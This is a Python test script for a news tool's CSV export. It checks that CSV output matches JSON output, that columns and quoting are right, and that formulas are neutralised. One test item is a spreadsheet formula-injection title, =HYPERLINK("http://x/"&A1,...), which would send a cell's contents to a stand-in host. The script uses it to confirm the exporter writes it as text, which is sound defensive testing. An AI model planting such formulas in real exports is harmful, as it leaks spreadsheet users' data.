#!/usr/bin/env python3
"""`newsflow query --csv` read back with Python's csv module equals `--json`.

Usage: query_csv_roundtrip.py NEWSFLOW_BIN SOURCE_DIR

Builds a store from the three bundled fixtures (360 real items: HTML,
quotes, commas and line breaks in titles and bodies), then for every CSV
column compares each parsed row with the same document's --json object.
Also the default columns, --fields order, and that some field really needed
quoting (so the test can fail on a writer that never quotes).
"""
import csv
import re
import io
import json
import os
import subprocess
import sys
import tempfile

FIELDS = ["key", "source", "time", "time_ms", "local_time", "title", "body", "url", "level", "stocks",
          "stock_codes", "tags", "scores", "story", "origin", "ruleset_version", "also"]


def run(args, **kw):
    r = subprocess.run(args, capture_output=True, **kw)
    if r.returncode != 0:
        sys.exit(f"FAIL: {' '.join(args)} exited {r.returncode}: {r.stderr.decode(errors='replace')}")
    return r.stdout


def main():
    binary, src = sys.argv[1], sys.argv[2]
    with tempfile.TemporaryDirectory() as tmp:
        db = os.path.join(tmp, "db")
        for feed in ("cls", "eastmoney", "ths"):
            run([binary, "run", "-q", "--source", f"{src}/tests/fixtures/{feed}-sample.jsonl", "--format", feed,
                 "--rules", f"{src}/rules/sets", "--db", db])
        objs = [json.loads(l) for l in run([binary, "query", "--db", db, "--json", "--limit", "0"]).splitlines()]
        raw = run([binary, "query", "--db", db, "--csv", "--limit", "0", "--fields", ",".join(FIELDS),
                   "--tz", "UTC"])
        text = raw.decode("utf-8")  # must be valid UTF-8
        rows = list(csv.reader(io.StringIO(text, newline="")))
        failures = []
        if rows[0] != FIELDS:
            failures.append(f"header {rows[0]}")
        rows = rows[1:]
        if len(rows) != len(objs):
            failures.append(f"{len(rows)} rows, {len(objs)} JSON objects")
        quoted = sum(1 for r in rows for v in r if any(c in v for c in ',"\n\r'))
        if quoted == 0:
            failures.append("no field needed quoting: the fixture does not exercise the writer")
        for row, o in zip(rows, objs):
            got = dict(zip(FIELDS, row))
            want = {
                "key": o["key"], "source": o["source"], "time": o["time"], "time_ms": str(o["time_ms"]),
                "title": o["title"], "body": o["body"], "url": o["url"], "level": o["level"],
                "stocks": ";".join(o["stocks"]), "stock_codes": ";".join(o["stock_codes"]),
                "tags": ";".join(o["tags"]),
                "scores": ";".join(f"{t}={o['scores'][t]:.2f}" for t in o["tags"]),
                "story": o["story"], "ruleset_version": o["ruleset_version"], "also": "",
            }
            for f, v in want.items():
                if v and v[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)", v):
                    v = "'" + v  # a formula a spreadsheet would run is written as text
                if got[f] != v:
                    failures.append(f"{o['key']} {f}: csv {got[f]!r} != json {v!r}")
            if not got["local_time"].endswith("+00:00") or got["local_time"][:10] != o["time"][:10]:
                failures.append(f"{o['key']} local_time {got['local_time']!r} (UTC) vs {o['time']!r}")
            if not got["origin"]:
                failures.append(f"{o['key']} origin empty")
        # Default columns and a chosen order.
        default = list(csv.reader(io.StringIO(run([binary, "query", "--db", db, "--csv", "--limit", "3"]).decode(),
                                              newline="")))
        if default[0] != ["key", "source", "time", "time_ms", "title", "tags", "stock_codes"] or len(default) != 4:
            failures.append(f"default CSV {default[:1]} with {len(default)} rows")
        picked = list(csv.reader(io.StringIO(
            run([binary, "query", "--db", db, "--csv", "--limit", "2", "--fields", "title,key"]).decode(), newline="")))
        if picked[0] != ["title", "key"] or picked[1][1] != objs[0]["key"]:
            failures.append(f"--fields title,key gave {picked[:2]}")
        # A title a spreadsheet would run as a formula is written as text;
        # a plain number is not touched.
        item = {"id": 990001, "ctime": 1780000000, "title": "=HYPERLINK(\"http://x/\"&A1,\"深圳\")",
                "content": "-5.5"}
        inp = os.path.join(tmp, "formula.jsonl")
        with open(inp, "w", encoding="utf-8") as f:
            f.write(json.dumps(item, ensure_ascii=False) + "\n")
        fdb = os.path.join(tmp, "formula-db")
        run([binary, "run", "-q", "--source", inp, "--format", "cls", "--rules", f"{src}/rules/sets", "--db", fdb])
        frow = list(csv.reader(io.StringIO(run([binary, "query", "--db", fdb, "--csv", "--fields", "title,body"]).decode(),
                                           newline="")))[1]
        if frow != ["'" + item["title"], "-5.5"]:
            failures.append(f"a formula title / a number body in CSV: {frow}")
        if failures:
            print("\n".join(failures[:30]))
            sys.exit(f"FAIL: {len(failures)} differences")
        print(f"ok: {len(rows)} rows x {len(FIELDS)} columns equal the JSON ({quoted} quoted fields)")


if __name__ == "__main__":
    main()
